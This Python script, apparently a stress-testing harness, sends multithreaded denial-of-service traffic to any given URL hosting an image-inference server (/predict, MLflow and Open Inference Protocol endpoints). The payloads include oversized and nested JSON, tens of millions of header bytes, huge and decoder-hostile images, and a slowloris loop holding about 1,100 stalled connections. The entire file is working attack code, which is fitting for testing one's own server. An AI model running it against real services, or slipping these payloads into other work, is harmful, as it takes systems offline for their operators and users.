"""Four hostile clients: `python attacks.py URL ATTACK` sends what costs a server more than its sender, until it is killed."""

from __future__ import annotations

import base64
import contextlib
import json
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

sys.path[:0] = [str(Path(__file__).parent), str(Path(__file__).parents[1] / "bundle")]
from image_files import blank_png, hostile, picture, saved
from wire import connect, exchange

INFER = "/v2/models/colours/infer"
CLIENTS = 4
PROTOCOLS = ("image", "JSON", "form", "MLflow", "OIP", "OIP in bytes")


def post(path: str, body: bytes, kind: str = "application/json", **more: str) -> bytes:
    """A request as bytes."""
    fields = {"Host": "x", "Content-Type": kind, "Content-Length": str(len(body)), "Connection": "close"} | more
    head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
    return f"POST {path} HTTP/1.1\r\n{head}\r\n".encode() + body


def tensor(**fields: object) -> dict[str, object]:
    """An inference request with one tensor."""
    return {"inputs": [{"name": "image", "datatype": "BYTES"} | fields]}


def parts(sent: bytes) -> tuple[str, bytes, dict[str, str]]:
    """A request that was written out, for a client that writes its own head: path, body, and the headers that matter."""
    head, _, body = sent.partition(b"\r\n\r\n")
    request, *lines = head.decode().split("\r\n")
    headers = dict(line.split(": ", 1) for line in lines)
    return request.split()[1], body, {name: value for name, value in headers.items() if name.startswith(("Content-T", "Inf"))}


def by_every_protocol(image: bytes) -> list[bytes]:
    """A picture in a request of each protocol: plain, JSON, form, MLflow, Open Inference Protocol in JSON and in bytes."""
    text, element = base64.b64encode(image).decode(), struct.pack("<I", len(image)) + image
    head = json.dumps(tensor(shape=[1], parameters={"binary_data_size": len(element)})).encode()
    form = b'--b\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n' + image + b"\r\n--b--\r\n"
    return [
        post("/predict", image, "image/png"),
        post("/predict", json.dumps({"image": text}).encode()),
        post("/predict", form, "multipart/form-data; boundary=b"),
        post("/invocations", json.dumps({"inputs": [text]}).encode()),
        post(INFER, json.dumps(tensor(shape=[1], data=[text])).encode()),
        post(INFER, head + element, "application/octet-stream", **{"Inference-Header-Content-Length": str(len(head))}),
    ]


def empty_texts() -> list[bytes]:
    """100,000 pictures that are not there, by every protocol that takes a list."""
    texts = [""] * 100_000
    bodies = {"/predict": {"images": texts}, "/invocations": {"inputs": texts}, INFER: tensor(shape=[100_000], data=texts)}
    elements = post(INFER, b"", "application/octet-stream")
    head = json.dumps(tensor(shape=[4_000_000], parameters={"binary_data_size": 16_000_000})).encode()
    elements = post(INFER, head + bytes(16_000_000), "x", **{"Inference-Header-Content-Length": str(len(head))})
    return [*(post(path, json.dumps(body).encode()) for path, body in bodies.items()), elements]


def numbers() -> list[bytes]:
    """Pixels as 5 million numbers in JSON, and lists in lists."""
    return [
        post(INFER, json.dumps(tensor(datatype="UINT8", shape=[1, 1, 1, 3])).encode()[:-2] + b',"data":[' + b"0," * 5_000_000),
        post("/invocations", b'{"inputs":[' + b"[]," * 3_000_000 + b"[]]}"),
        post("/predict", b"[" * 10_000_000),
        post("/predict", b"--b\r\n" + b"\r\n--" * 2_000_000, "multipart/form-data; boundary=b"),
    ]


def heads() -> list[bytes]:
    """Heads without end."""
    return [
        b"GET / HTTP/1.1\r\nX: " + b"a" * 60_000_000,
        b"GET /" + b"a" * 60_000_000,
        b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 8_000_000,
        b"GET / HTTP/1.1\r\n\r\n" * 100_000,
    ]


def large() -> list[bytes]:
    """Pictures of 60 million pixels, which are pictures."""
    return [post("/predict", blank_png(7_700, 7_700), "image/png")]


def bulk() -> list[bytes]:
    """As many pictures as a request may hold."""
    return [post("/predict", json.dumps({"images": [base64.b64encode(saved(picture())).decode()] * 64}).encode())]


def broken() -> list[bytes]:
    """Files that took a decoder seconds, by every protocol."""
    return [request for image in hostile().values() for request in by_every_protocol(image)]


def slow(url: str) -> None:
    """1,100 bodies that never arrive, to every address; each is replaced when it is closed."""
    heads = [post(path, b"")[:-2] for path in ("/predict", "/invocations", INFER, "/health", "/nowhere")]
    heads = [head.replace(b"Content-Length: 0", b"Content-Length: 100") + b"\r\nx" for head in heads]
    open_ones = list[socket.socket]()
    while True:
        with contextlib.suppress(OSError):
            open_ones.append(connect(url))
            open_ones[-1].sendall(heads[len(open_ones) % len(heads)])
        if len(open_ones) > 1_100 // CLIENTS:
            with contextlib.suppress(OSError):
                open_ones.pop(0).close()
            time.sleep(0.005)


ATTACKS: dict[str, Callable[[], list[bytes]] | None] = {
    "empty texts": empty_texts, "numbers": numbers, "heads": heads, "large": large, "bulk": bulk, "broken": broken,
    "slow": None,
}  # fmt: skip


def repeat(url: str, requests: list[bytes], start: int) -> None:
    """Send these in turn."""
    while True:
        for request in requests[start:] + requests[:start]:
            with contextlib.suppress(OSError):
                exchange(url, request)
            time.sleep(0.01)


if __name__ == "__main__":
    make = ATTACKS[sys.argv[2]]
    made = make() if make else []
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    for number in range(CLIENTS):
        arguments = (sys.argv[1], made, number % max(len(made), 1)) if made else (sys.argv[1],)
        threading.Thread(target=repeat if made else slow, args=arguments).start()
